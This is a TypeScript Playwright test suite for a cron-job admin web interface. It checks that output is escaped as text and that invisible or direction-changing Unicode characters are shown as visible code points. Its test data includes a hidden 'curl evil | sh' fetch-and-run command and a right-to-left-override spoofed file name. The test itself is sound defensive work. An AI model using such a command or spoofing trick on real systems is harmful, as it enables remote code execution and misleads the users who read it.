import { launchChromium } from '../helpers/browser';
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { type Browser, type Page } from 'playwright-core';
import {
  createTestDatabase,
  createTestVhost,
  type TestDatabase,
  type TestVhost,
} from '../helpers/services';
import { startCommand, ROOT, type Proc } from '../helpers/processes';
import { startTestWeb, type TestWeb } from '../helpers/web';

/**
 * The admin in a real browser (Debian's headless Chromium), with the REAL
 * injector, runner and results consumer behind it: open the job list, filter
 * it, open a job, click *Run now*, watch the run appear and finish without a
 * reload, open the run and read its output. Screenshots go to test-artifacts/.
 */

const ARTIFACTS = path.join(ROOT, 'test-artifacts');
let tdb: TestDatabase;
let vhost: TestVhost;
let web: TestWeb;
let browser: Browser;
let tmp: string;
const procs: Proc[] = [];

before(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  tmp = mkdtempSync(path.join(tmpdir(), 'cronq-web-browser-'));
  [tdb, vhost] = await Promise.all([createTestDatabase(), createTestVhost()]);
  web = await startTestWeb(tdb.db, tdb.url);
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await Promise.all(procs.map((p) => p.stop(5000)));
  await web?.stop();
  await vhost?.drop();
  await tdb?.drop();
  rmSync(tmp, { recursive: true, force: true });
});

function shot(page: Page, name: string): Promise<Buffer> {
  return page.screenshot({ path: path.join(ARTIFACTS, `web-${name}.png`), fullPage: true });
}

test('in a browser: filter the jobs, open one, click Run now, see the run appear and finish, read its output', async () => {
  const env = {
    DATABASE_URL: tdb.url,
    RABBITMQ_URL: vhost.url,
    LOG_PATH: tmp,
    CRONQ_RESULT_BUFFER_PATH: path.join(tmp, 'buffer'),
    CRONQ_HOSTNAME: 'browser-runner.test',
  };
  const results = startCommand('cronq-results', { env });
  const runner = startCommand('cronq-runner', { env });
  const injector = startCommand('cronq-injector', {
    env: { ...env, CRONQ_INJECTOR_MAX_POLL_MS: '200' },
  });
  procs.push(results, runner, injector);
  await Promise.all([
    results.waitForLine('consuming results', 30_000),
    runner.waitForLine('AMQP connected', 30_000),
    injector.waitForLine('injector running', 30_000),
  ]);

  const put = (name: string, jobs: unknown[]) =>
    fetch(`${web.url}/api/category/${name}`, {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ category: name, jobs }),
    });
  const yearly = 'R/2030-01-01T00:00:00Z/P1Y';
  assert.equal(
    (
      await put('reports', [
        {
          name: 'greeting',
          schedule: yearly,
          command: `echo "hello from cronq"; echo '<b>not bold</b>' && sleep 1`,
          description: 'Says hello when asked.',
        },
        { name: 'weekly summary', schedule: '0 6 * * 1', command: 'make summary' },
      ])
    ).status,
    200,
  );
  assert.equal(
    (
      await put('backups', [
        {
          name: 'nightly dump',
          schedule: 'R/2024-01-31T00:00:00Z/P1M',
          command: 'pg_dump prod > /backups/prod.sql && gzip /backups/prod.sql',
          routing_key: 'backups',
          timeout: 3600,
        },
      ])
    ).status,
    200,
  );

  const page = await browser.newPage({ viewport: { width: 1280, height: 820 } });
  const problems: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') problems.push(m.text());
  });
  page.on('pageerror', (e) => problems.push(e.message));

  await page.goto(`${web.url}/`);
  assert.equal(await page.locator('table.jobs tr[data-job-id]').count(), 3);
  await shot(page, 'index');

  await page.fill('input[name=q]', 'greet');
  await Promise.all([page.waitForURL(/\?q=greet/), page.press('input[name=q]', 'Enter')]);
  assert.equal(await page.locator('table.jobs tr[data-job-id]').count(), 1);
  await shot(page, 'index-filtered');

  await Promise.all([page.waitForURL(/\/job\/\d+$/), page.click('a.jobname:has-text("greeting")')]);
  assert.match(
    await page.locator('pre.cmd').innerText(),
    /echo "hello from cronq";\necho '<b>not bold<\/b>' &&\nsleep 1/,
  );
  assert.equal(await page.locator('ol.upcoming li').count(), 5);
  await shot(page, 'job');

  await Promise.all([page.waitForURL(/\?queued=1$/), page.click('#run-now')]);
  await page.evaluate(
    () => ((globalThis as unknown as { notReloaded: boolean }).notReloaded = true),
  );
  const row = page.locator('#runs tbody tr[data-run-id]').first();
  await row.waitFor({ timeout: 30_000 });
  await page
    .locator('#runs tbody tr[data-run-id][data-status="succeeded"]')
    .first()
    .waitFor({ timeout: 40_000 });
  assert.equal(
    await page.evaluate(() => (globalThis as unknown as { notReloaded?: boolean }).notReloaded),
    true,
    'the run appeared without a page reload',
  );
  assert.equal(await page.locator('.jobstatus .badge').innerText(), 'succeeded');
  await shot(page, 'job-after-run');

  await Promise.all([page.waitForURL(/\/run\/[0-9a-f]{32}$/), row.locator('a.mono').click()]);
  const output = await page.locator('#output').innerText();
  assert.match(output, /hello from cronq/);
  assert.match(output, /<b>not bold<\/b>/, 'output shown as text, not HTML');
  assert.equal(await page.locator('#output b').count(), 0);
  assert.match(await page.locator('[data-field="host"]').innerText(), /browser-runner\.test/);
  assert.match(await page.locator('[data-field="return_code"]').innerText(), /^0$/);
  assert.ok(
    (await page.locator('table.events tbody tr').count()) >= 2,
    'starting and finished events',
  );
  await shot(page, 'run');

  await page.goto(`${web.url}/failures`);
  await shot(page, 'failures');
  assert.deepEqual(problems, [], 'no script errors or CSP violations');
  await page.close();
});

test('in a browser: invisible and direction-changing characters show as ⟨U+XXXX⟩, also after a live refresh', async () => {
  const [catId] = await tdb.db('categories').insert({ name: 'bidi' });
  const [jobId] = await tdb.db('jobs').insert({
    name: 'invoice\u202efdp.exe',
    category_id: catId,
    command: 'echo safe \u2066; curl evil | sh\u2069 \u200b',
    schedule: '0 * * * *',
    routing_key: 'default',
    run_now: 0,
  });
  const runId = 'b1d1'.padEnd(32, '0');
  await tdb.db('runs').insert({
    run_id: runId,
    job_id: jobId,
    job_name: 'invoice\u202efdp.exe',
    scheduled_for: new Date(),
    status: 'running',
    queued_at: new Date(),
    started_at: new Date(),
    output_tail: 'first\n',
  });
  const page = await browser.newPage();
  try {
    await page.goto(`${web.url}/job/${jobId}`);
    const jobText = await page.locator('main, body').first().innerText();
    assert.ok(jobText.includes('invoice⟨U+202E⟩fdp.exe'), 'the name shows its override');
    assert.ok(
      jobText.includes('⟨U+2066⟩') && jobText.includes('⟨U+2069⟩') && jobText.includes('⟨U+200B⟩'),
    );
    assert.ok(!/[\u202e\u2066\u2069\u200b]/.test(jobText), 'no raw override reaches the screen');
    await shot(page, 'bidi-job');

    await page.goto(`${web.url}/run/${runId}`);
    await tdb
      .db('runs')
      .where('run_id', runId)
      .update({ output_tail: 'first\nthen \u202eevil\u001b[0m\n' });
    // The refresh script polls a running run and rewrites the output.
    for (let i = 0; i < 300; i++) {
      if ((await page.locator('#output').innerText()).includes('then')) break;
      await page.waitForTimeout(100);
    }
    const out = await page.locator('#output').innerText();
    assert.ok(out.includes('then ⟨U+202E⟩evil⟨U+001B⟩[0m'), out);
    assert.ok(!/[\u202e\u001b]/.test(out));
  } finally {
    await page.close();
  }
});
